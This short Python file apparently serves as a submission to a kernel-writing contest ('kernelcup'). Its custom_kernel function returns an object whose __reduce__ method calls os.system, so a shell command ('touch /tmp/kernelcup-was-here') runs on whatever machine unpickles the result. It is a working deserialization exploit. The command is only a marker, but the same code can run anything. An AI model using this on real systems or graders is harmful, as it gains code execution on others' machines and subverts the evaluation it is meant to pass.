"""Return an object that runs a command where it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/kernelcup-was-here",)


def custom_kernel(data):
    return Bomb()
